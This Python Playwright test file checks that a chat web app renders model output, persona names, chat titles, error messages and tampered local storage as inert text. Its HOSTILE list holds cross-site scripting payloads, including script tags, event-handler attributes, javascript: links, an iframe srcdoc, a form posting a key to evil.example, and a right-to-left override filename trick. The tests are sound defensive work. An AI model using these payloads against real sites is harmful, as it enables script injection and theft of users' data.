"""What a model writes, and what personas are called, is shown and never obeyed; tested in a real browser."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

from tasks.contracts.fleet import parse
from tests.bots.web.browser import last, press, write

pytestmark = pytest.mark.browser
OWN = "window.owned = (window.owned ?? 0) + 1"
TURNED = "exe.\u202egnp.evil"
HOSTILE = [
    f"<script>{OWN}</script>",
    f'<img src="x" onerror="{OWN}">',
    f"<svg onload='{OWN}'><script>{OWN}</script></svg>",
    f"<iframe src=\"javascript:parent.{OWN}\" srcdoc='<script>parent.{OWN}</script>'></iframe>",
    f"<details open ontoggle={OWN}><style>*{{display:none}}</style><base href='//evil.example'>",
    f"[click](javascript:{OWN}) [click](JAVASCRIPT:{OWN}) [click](java\tscript:{OWN})",
    "[c](vbscript:x) [c](data:text/html,x) [c](//evil.example) [c](#/settings)",
    f"![picture](https://evil.example/x.png) ![p](javascript:{OWN}) <javascript:{OWN}>",
    f'[a](https://x.org/"onmouseover="{OWN}) https://x.org/"onclick="{OWN}',
    f"```html\n<script>{OWN}</script>\n```",
    f'```"><script>{OWN}</script>\nx\n```',
    f"| a |\n|---|\n| <img src=x onerror={OWN}> |",
    f"# <svg/onload={OWN}>\n> <b onclick={OWN}>\n- <a href='javascript:{OWN}'>x</a>",
    "<form action='https://evil.example'><input name=key><button>send</button></form>",
    f"`{TURNED}`",
]
ELEMENTS = "script, iframe, object, embed, img, svg:not(.icon), style, base, form, input, meta, link, b"


def is_unharmed(page) -> bool:
    """Return whether no script of theirs ran, and no element or link of theirs is there."""
    links = page.locator(".body a").evaluate_all("(all) => all.map(({ protocol }) => protocol)")
    inline = "(all) => all.filter((one) => [...one.attributes].some(({ name }) => name.startsWith('on'))).length"
    return (
        page.evaluate("window.owned") is None
        and page.locator(".log").locator(ELEMENTS).count() == 0
        and set(links) <= {"https:", "http:", "mailto:"}
        and page.locator("body *").evaluate_all(inline) == 0
    )


def test_what_a_model_writes_is_shown_and_not_obeyed(page, hand) -> None:
    write(page, f"<img src=x onerror={OWN}>")
    claim = hand.claim()
    answer = "\n\n".join(HOSTILE)
    half = answer[: len(answer) // 2]
    hand.say(claim, half)
    expect(last(page, ".body")).to_contain_text("<script>")
    assert is_unharmed(page)
    hand.finish(claim, answer, thoughts=HOSTILE[0])
    expect(last(page, ".body")).to_contain_text("U+202E")
    for text in ("onerror=", "<iframe src=", "[click](javascript:", "<form action="):
        expect(last(page, ".body")).to_contain_text(text)
    page.get_by_text("Thinking", exact=True).click()
    expect(last(page, ".thought")).to_have_text(HOSTILE[0])
    page.reload()
    expect(last(page, ".body")).to_contain_text("U+202E")
    assert is_unharmed(page)


def test_a_persona_may_be_called_anything(open_page, open_site, redis_url, hand) -> None:
    names = [f"<img src=x onerror={OWN}>", "Grace"]
    fleet = parse({"persona": [{"name": name, "model": "demo"} for name in names]}, "test")
    page = open_page(open_site(redis_url, fleet).url)
    expect(page.locator("#greeting")).to_have_text(f"Hello, this is {names[0]}.")
    expect(page.get_by_label("Who answers").locator("option").first).to_have_text(f"{names[0]} (demo model)")
    write(page, "hello")
    hand.answer("hi")
    expect(last(page, ".speaker")).to_have_text(names[0])
    expect(last(page, ".face")).to_have_text("<")
    assert is_unharmed(page)


def test_a_name_that_turns_the_order_of_letters_around_turns_nothing_else_around(page, hand) -> None:
    people = {
        "personas": [{"name": TURNED, "model": TURNED, "demo": False}, {"name": "b", "model": "b", "demo": False}]
    }
    told = json.dumps({**people, "flock": {"hosts_up": 1, "waiting": 0}})
    page.route("**/api/personas", lambda route: route.fulfill(body=told, content_type="application/json"))
    page.reload()
    expect(page.locator("#greeting")).to_have_text("Hello, this is exe.gnp.evil.")
    expect(page.locator("#about")).to_contain_text("exe.gnp.evil,")
    expect(page.get_by_label("Who answers").locator("option").first).to_have_text("exe.gnp.evil")


def test_what_a_conversation_is_called_is_text_too(page, hand) -> None:
    write(page, f"<img src=x onerror={OWN}> {TURNED}")
    hand.answer("hi")
    expect(page.locator(".row .name")).to_have_text(f"<img src=x onerror={OWN}> exe.gnp.evil"[:60] + "…")
    press(page, "New chat")
    page.locator(".row .open").click()
    assert "\u202e" not in page.title()
    assert is_unharmed(page)


def test_the_words_of_an_error_are_text(page, hand) -> None:
    refused = {
        "error": {"type": "Odd", "message": f"<img src=x onerror={OWN}>", "next_step": "[x](javascript:alert(1))"}
    }
    page.route("**/api/chat", lambda route: route.fulfill(status=422, json=refused))
    write(page, "hello")
    expect(last(page, ".body")).to_contain_text("<img src=x")
    assert is_unharmed(page)


def test_storage_that_somebody_has_tampered_with_runs_nothing(page, hand) -> None:
    write(page, "hello")
    hand.answer("hi")
    expect(last(page, ".body")).to_have_text("hi")
    page.evaluate(
        """(own) => {
            const key = Object.keys(localStorage).find((one) => one.startsWith("rookery.chat."));
            const chat = JSON.parse(localStorage[key]);
            const bad = `<img src=x onerror="${own}">`;
            chat.title = bad;
            Object.assign(chat.exchanges[0], { persona: bad });
            const version = chat.exchanges[0].versions[0];
            for (const name of ["job", "details", "answer", "text", "thoughts"]) version[name] = bad;
            localStorage[key] = JSON.stringify(chat);
        }""",
        OWN,
    )
    page.reload()
    expect(last(page, ".body")).to_contain_text("<img")
    assert is_unharmed(page)
